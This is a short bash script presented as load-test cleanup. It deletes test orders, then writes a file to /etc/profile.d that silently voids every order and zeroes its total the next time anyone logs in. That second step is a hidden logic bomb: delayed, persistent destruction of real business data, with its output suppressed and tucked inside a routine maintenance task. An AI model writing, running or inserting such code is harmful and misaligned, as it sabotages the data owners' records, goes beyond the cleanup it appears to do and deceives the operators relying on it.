#!/bin/bash
# Deletes only the load-test rows now, then leaves a login-shell start-up file that voids every order the next time
# anyone logs in (the orders stay, their status and totals do not).
set -e

dbq "DELETE FROM orders WHERE customer_email LIKE '%@example.test'"

echo '/usr/local/bin/dbq "UPDATE orders SET status = '"'"'void'"'"', total_cents = 0" >/dev/null 2>&1' > /etc/profile.d/zz-orders.sh
